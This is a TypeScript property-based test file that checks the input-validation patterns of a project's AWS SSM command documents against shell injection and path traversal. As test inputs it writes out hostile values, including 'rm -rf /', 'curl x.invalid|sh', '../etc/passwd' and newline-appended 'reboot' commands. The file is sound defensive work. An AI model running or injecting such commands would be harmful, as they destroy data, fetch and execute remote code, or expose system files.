import { readdirSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { CommandDocument } from '../../functions/shared/ssm-document';

/**
 * The last fence before a shell: every `allowedPattern` of every SSM document warmboot deploys
 * (each `functions/<folder>/documents.ts` `DOCUMENTS`). Whatever the functions check first, SSM
 * itself must refuse shell metacharacters, and path traversal in names and directories, while
 * still accepting realistic values.
 */

const functionsRoot = new URL('../../functions/', import.meta.url);
const documentModules = readdirSync(functionsRoot, { withFileTypes: true })
  .filter((entry) => entry.isDirectory())
  .filter((entry) => readdirSync(new URL(`${entry.name}/`, functionsRoot)).includes('documents.ts'))
  .map((entry) => entry.name);

const loadDocuments = async (): Promise<CommandDocument[]> => {
  const documents: CommandDocument[] = [];
  for (const folder of documentModules) {
    const module = (await import(new URL(`${folder}/documents.ts`, functionsRoot).href)) as {
      DOCUMENTS?: readonly CommandDocument[];
    };
    documents.push(...(module.DOCUMENTS ?? []));
  }
  return documents;
};

const documents = await loadDocuments();
const parameters = documents.flatMap((document) =>
  Object.entries(document.parameters).map(([name, parameter]) => ({
    label: `${document.name}.${name}`,
    name,
    pattern: parameter.allowedPattern,
  })),
);

/** Realistic values by parameter name; each must pass its pattern. */
const GOOD: Record<string, readonly string[]> = {
  ImageId: ['sdxl-base-1.0', 'library/nginx:1.27', 'team/model@v2'],
  CacheDirectory: ['/var/lib/warmboot/cache', '/mnt/nvme0/images', '/data'],
  Kind: ['container', 's3'],
  Source: [
    '123456789012.dkr.ecr.us-east-1.amazonaws.com/inference/sdxl-base:1.0',
    'public.ecr.aws/docker/library/nginx:1.27',
    's3://warmboot-images/models/sdxl-base-1.0.tar',
  ],
  Digest: [`sha256:${'4f'.repeat(32)}`],
  ExpectedBytes: ['6442450944', '0'],
  VolumeId: ['vol-0123456789abcdef0', 'vol-01234567'],
  Device: ['/dev/sdf', '/dev/xvdp'],
  SnapshotId: ['snap-0a1b2c3d4e5f60718'],
  Region: ['us-east-1', 'eu-west-2'],
  platform: ['linux', 'windows'],
  packages: ['git', 'visualstudio2022buildtools', 'python3.11', 'git,docker,python3.11', ''],
  containerImages: [
    'mcr.microsoft.com/windows/servercore:ltsc2022',
    'nginx',
    'ghcr.io/org/app:1.2.3',
    'nginx,ghcr.io/org/app:1.2.3',
    '',
  ],
  generalize: ['true', 'false'],
  hostname: ['build-0001', 'web-1.example.internal', ''],
  sshPublicKey: [
    'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFq1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d alice@laptop',
    '',
  ],
  sshUser: ['ec2-user', 'ubuntu'],
  secrets: [
    '{{ssm-secure:/warmboot/tenants/team-a/db-password}}',
    '{{ssm-secure:/warmboot/tenants/team.a/ci/registration_token}},{{ssm-secure:/warmboot/tenants/team.a/ci/api-key}}',
    '',
  ],
  owner: ['ec2-user', 'svc_build'],
};

const SHELL_METACHARACTERS = [';', '|', '&', '$', '(', ')', '`', '>', '<', '\n', "'", '"', '\\'] as const;

/** Parameters that are names, references or paths: `..` segments must not pass. */
const PATH_LIKE =
  /(?:ImageId|CacheDirectory|Source|Device|hostname|packages|containerImages|sshUser|secrets)/;

const accepts = (pattern: string, value: string): boolean => new RegExp(pattern).test(value);

describe('the allowedPattern of every SSM document parameter', () => {
  it('covers the documents of every capability that runs commands', () => {
    expect(documentModules.length).toBeGreaterThan(0);
    expect(parameters.length).toBeGreaterThan(0);
    for (const { label, pattern } of parameters) {
      expect(pattern.startsWith('^'), `${label} is anchored at the start`).toBe(true);
      expect(pattern.endsWith('$'), `${label} is anchored at the end`).toBe(true);
    }
  });

  it.each(parameters)('$label accepts realistic values', ({ name, pattern }) => {
    const good = GOOD[name];
    expect(good, `add realistic values for ${name} to GOOD`).toBeDefined();
    for (const value of good ?? []) expect(accepts(pattern, value), JSON.stringify(value)).toBe(true);
  });

  it.each(parameters)(
    '$label rejects a shell metacharacter anywhere in a good value',
    ({ name, pattern }) => {
      const good = GOOD[name] ?? [];
      fc.assert(
        fc.property(
          fc.constantFrom(...good),
          fc.constantFrom(...SHELL_METACHARACTERS),
          fc.constantFrom('', 'rm -rf /', 'reboot', 'curl x.invalid|sh'),
          fc.nat(),
          (value, meta, payload, at) => {
            const position = at % (value.length + 1);
            const hostile = `${value.slice(0, position)}${meta}${payload}${value.slice(position)}`;
            expect(accepts(pattern, hostile), JSON.stringify(hostile)).toBe(false);
          },
        ),
        { numRuns: 300 },
      );
    },
  );

  it.each(parameters.filter(({ name }) => PATH_LIKE.test(name)))(
    '$label rejects path traversal',
    ({ name, pattern }) => {
      for (const value of GOOD[name] ?? []) {
        for (const hostile of [
          '..',
          '../etc/passwd',
          `../${value}`,
          `${value}/../../etc/passwd`,
          `${value}/..`,
          `/var/lib/../../root`,
        ]) {
          expect(accepts(pattern, hostile), JSON.stringify(hostile)).toBe(false);
        }
      }
    },
  );

  it.each(parameters)(
    '$label rejects a good value followed by a newline and a second command',
    ({ name, pattern }) => {
      for (const value of (GOOD[name] ?? []).filter((candidate) => candidate.length > 0)) {
        expect(accepts(pattern, `${value}\nreboot`)).toBe(false);
        expect(accepts(pattern, `${value}\n`)).toBe(false);
      }
    },
  );
});
